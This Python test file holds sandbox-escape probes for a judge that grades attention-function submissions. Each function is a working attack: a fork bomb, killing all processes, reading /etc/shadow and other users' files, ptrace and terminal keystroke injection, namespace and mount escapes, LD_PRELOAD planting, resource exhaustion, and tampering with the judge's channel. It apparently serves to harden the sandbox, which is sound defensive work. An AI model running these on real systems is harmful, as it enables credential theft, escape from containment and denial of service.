"""Candidates that break things or break out: what succeeds prints ESCAPED. Each body becomes a file
that begins as this one.

One that takes q, k and v is itself what is called. Others define `attend`, or get one that is wrong.
"""

import contextlib, ctypes, fcntl, glob, mmap, os, resource, signal, socket, struct, sys, threading, time

import attnlab
from torch.nn.functional import scaled_dot_product_attention as right

libc, arm, kept = ctypes.CDLL(None), os.uname().machine == "aarch64", []


def _try(name, thing):
    with contextlib.suppress(Exception):
        print("ESCAPED", name, thing())


def cannot_be_stopped():
    """A process that waits for the child of a vfork does not stop."""
    if not os.fork():
        time.sleep(600 * (libc.syscall(220 if arm else 56, 0x4011, 0, 0, 0, 0) == 0))
        os._exit(0)


def connects():
    """The network, by every family of sockets."""
    addresses = (2, ("127.0.0.1", 22)), (2, ("1.1.1.1", 53)), (10, ("::1", 22)), (1, "/run/dbus/system_bus_socket")
    for family, address in addresses:
        _try(address, lambda: socket.socket(family).connect(address))


def cuts_the_memory():
    """It cuts off or reopens the memory that it shares with the judge."""
    for name in glob.glob("/proc/self/fd/[03-9]*") + glob.glob("/proc/self/map_files/*"):  # 1 and 2: what it prints
        _try(name, lambda: os.ftruncate(int(name.rpartition("/")[2]), 0))
        _try(name, lambda: os.truncate(name, 0))


def dumps_core():
    """A child crashes; its memory would go where the kernel's pattern says."""
    _try("limit", lambda: resource.setrlimit(resource.RLIMIT_CORE, (2**30, 2**30)))
    child = os.fork() or ctypes.string_at(0)
    _try("core", lambda: 1 // os.WCOREDUMP(os.waitpid(child, 0)[1]))


def enters_namespaces():
    """New namespaces by clone, and those of every process that it sees."""
    for flag in (0x10000000, 0x10020000, 0x20000000, 0x40000000, 0x2000000, 0x4000000, 0x8000000):
        _try(hex(flag), lambda: 1 // (libc.syscall(220 if arm else 56, flag | 17, 0, 0, 0, 0) >= 0))
    for name in glob.glob("/proc/*/ns/*"):
        _try(name, lambda: 1 // (libc.setns(os.open(name, 0), 0) == 0))


def fills_the_disk():
    """10 GB of files."""
    for at in range(100):
        open(f"/tmp/{at}", "wb").write(b"x" * 10**8)
    print("ESCAPED disk")


def fills_with_empty_files():
    """Files that have no byte, and take the kernel's memory."""
    for at in range(400_000):
        os.close(os.open(f"/tmp/{at}", os.O_CREAT))
    print("ESCAPED files")


def finds_abstract_sockets():
    """Sockets without a file, of whoever runs here."""
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        print("ESCAPED", line)


def follows_magic_links():
    """Out through links of /proc, and by handles of folders that no path leads to."""
    for name in (*glob.glob("/proc/*/root/.."), *glob.glob("/proc/*/cwd/../.."), "/proc/self/fd/0/../..", "/../.."):
        _try(name, lambda: [one for one in os.listdir(name) if one in ("boot", "mnt", "srv", "var")][0])
    for name in ("/usr", "/bin", sys.prefix):  # the inode number 2 is a file system's root
        handle = struct.pack("<Iiq", 8, 1, 2) + bytes(120)
        _try(name, lambda: os.listdir(f"/proc/self/fd/{libc.open_by_handle_at(os.open(name, os.O_RDONLY), handle, 0)}"))


def forks():
    """A fork bomb."""
    while True:
        with contextlib.suppress(OSError):
            os.fork()


def hands_over_files():
    """It hands open files to the judge."""
    channel = socket.socket(fileno=int(sys.argv[1]))
    for _ in range(1000):
        socket.send_fds(channel, [b"x"], [0] * 200)


def hangs():
    """It never answers."""
    while True:
        pass


def hides_its_children():
    """Children of its own parent, in sessions of their own, whose first thread has ended."""
    for _ in range(3):
        if not libc.syscall(220 if arm else 56, 0x8011, 0, 0, 0, 0):
            os.setsid()
            threading.Thread(target=time.sleep, args=(600,)).start()
            libc.pthread_exit(None)


def holds_leases():
    """It holds up who wants to write a file of attnlab."""
    _try("lease", lambda: fcntl.fcntl(os.open(attnlab.__file__, os.O_RDONLY), 1024, fcntl.F_RDLCK))


def kills_all():
    """SIGKILL to every process."""
    os.kill(-1, 9)


def leaves_something_behind():
    """What another candidate could find: files, shared memory and queues. It looks whether one has left some."""
    for place in ("/tmp/left", "/dev/shm/left", "/dev/mqueue/left", "/var/tmp/left", f"{sys.prefix}/left"):
        _try(place, lambda: open(place).name)
        os.system(f"touch {place}")
    for name, given in {"shmget": (4096, 0o3666), "msgget": (0o3666,), "semget": (1, 0o3666)}.items():
        _try(name, lambda: 1 // (getattr(libc, name)(77, *given) < 0))


def links():
    """A symbolic link where its own file is read."""
    os.remove("/tmp/candidate/candidate.py")
    os.symlink("/proc/1/root/etc/shadow", "/tmp/candidate/candidate.py")
    _try("shadow", lambda: open("/tmp/candidate/candidate.py").read()[:20])


def mounts():
    """Mounts and a new root."""
    for given in ((b"/tmp", b"/usr", None, 4096, None), (None, b"/", None, 32, None)):
        _try(given, lambda: 1 // (libc.mount(*given) == 0))
    for name, given in {"unshare": (0x10000000,), "chroot": (b"/tmp",), "umount2": (b"/tmp", 2)}.items():
        _try(name, lambda: 1 // (getattr(libc, name)(*given) == 0))


def opens_for_writing():
    """Every file of the kernel, opened for writing."""
    for top in ("/sys/**", "/proc/*", "/proc/sys/**", "/proc/irq/**"):
        for name in filter(os.path.isfile, glob.glob(top, recursive=True)):
            _try(name, lambda: os.close(os.open(name, os.O_WRONLY | os.O_NONBLOCK)))


def opens_other_sockets():
    """Families of sockets that no network namespace holds back: AF_VSOCK reaches the host of a virtual machine."""
    for family, kind in ((family, kind) for family in range(2, 47) for kind in (1, 2, 3, 5)):
        _try(family, lambda: socket.socket(family, kind))


def prints():
    """Output without end."""
    while True:
        print("x" * 10**6)


def raises_limits():
    """It raises its own limits."""
    for kind in (resource.RLIMIT_DATA, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
        _try(kind, lambda: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)))


def raises_strangely(q, k, v, *, scale):
    """An exception whose text cannot be had, and whose name is long and colours the terminal."""
    raise type("x\n\x1b[31m" * 10_000, (Exception,), {"__str__": lambda self: sys.exit()})


def reads_files():
    """Files of the user, of other candidates and of the judge."""
    homes = "/root/.[a-oq-z]*", "/root/[a-z]*", "/home/*"
    for pattern in (*homes, "/tmp/[!c]*/*.py", "/var/*", "/srv/*", "/etc/passwd", "/etc/shadow"):
        for name in glob.glob(pattern):
            print("ESCAPED", name)


def reads_keys():
    """The keys of the session that the user logged into, and what only the owner may read of the kernel."""
    _try("keys", lambda: 1 // (libc.syscall(219 if arm else 250, 0, -3, 0) != -1))
    for name in ("keys", "vmallocinfo", "slabinfo", "kpageflags", "kpagecgroup", "kcore", "kmsg"):
        _try(name, lambda: open(f"/proc/{name}", "rb").read(8)[0])


def reads_others_memory():
    """Memory and open folders of the processes that it sees: one of them made the sandbox."""
    for at in range(64):
        _try(at, lambda: os.listdir(f"/proc/self/fd/{libc.syscall(438, os.pidfd_open(1), at, 0)}/."))
    _try("variables", lambda: [one for one in open("/proc/1/environ").read().split("\0")[:-1] if one[:5] != "PATH="][0])


def sends_nonsense():
    """Messages that are none, large ones and many, and it reads none."""
    channel = socket.socket(fileno=int(sys.argv[1]))
    for _ in range(10**5):
        with contextlib.suppress(OSError):
            channel.send(b"\xc1" * 60000, 64)


def sets_priorities():
    """It comes before all others: the scheduler, and what the kernel ends first."""
    _try("nice", lambda: os.setpriority(os.PRIO_PROCESS, 0, -5))
    _try("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
    _try("oom", lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"))


def speaks_markup():
    """Output and reasons that a terminal or a page would act on."""
    print("\x1b]0;title\x07\x1b[2J<script>alert(1)</script>[link](http://x)")
    raise ValueError("\x1b[31m<script>alert(1)</script> | ` [link](http://x) \udc80")


def stays():
    """A daemon that outlives it."""
    if not os.fork():
        os.setsid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        time.sleep(600 * (os.fork() == 0))
        os._exit(0)


def stops_all():
    """SIGSTOP to its family and itself."""
    os.kill(os.getppid(), 19)
    os.kill(os.getpid(), 19)


def takes_its_time(q, k, v, *, scale):
    """Every answer is right, and late."""
    time.sleep(1)
    return right(q, k, v, scale=scale)


def takes_memory():
    """10 GB of memory."""
    kept.extend(b"x" * 2**26 for _ in range(160))


def takes_memory_slowly(q, k, v, *, scale):
    """Little in each call, in files that no process has mapped."""
    kept.append(os.memfd_create("x"))
    os.posix_fallocate(kept[-1], 0, 96 * 2**20)
    if len(kept) > 48:
        print("ESCAPED", len(kept) * 96, "MB are held")
    return right(q, k, v, scale=scale)


def takes_shared_memory():
    """10 GB of memory that no process has."""
    for at in range(40):
        file = os.memfd_create(str(at))
        os.truncate(file, 2**28)
        mmap.mmap(file, 2**28).write(b"x" * 2**28)


def takes_what_all_share():
    """What the machine has so many of for all of its users, and the messages of the kernel."""
    for numbers, given in (((206, 0), (64, bytes(8))), ((103, 116), (10, 0, 0)), ((283, 85), (1, 0))):
        _try(numbers, lambda: 1 // (libc.syscall(numbers[arm], *given) != -1))


def traces():
    """ptrace of every process that it sees but its own."""
    for number in range(1, 100):
        if number != os.getpid() and not libc.ptrace(16, number, 0, 0):
            _try(number, lambda: open(f"/proc/{number}/cmdline").read().index("attnlab\0judge"))


def types_for_the_user():
    """Characters pushed into the user's terminal, or into one of its own."""
    for name in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/tty1", *glob.glob("/proc/[0-9]*/fd/[0-2]")):
        _try(name, lambda: fcntl.ioctl(os.open(name, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK), 0x5412, b"#"))


def writes_files():
    """Every folder that it may not write, and where a library of slower clocks would be loaded from."""
    os.environ["LD_PRELOAD"] = "/tmp/clock.so"
    for folder in (*attnlab.__path__, sys.prefix, "/", "/usr", "/usr/lib", "/etc", "/dev", "/root", "/proc/sys/kernel"):
        for name in ("hostname", "ld.so.preload", "clock.so"):
            _try((folder, name), lambda: open(os.path.join(folder, name), "w").write("/tmp/clock.so"))
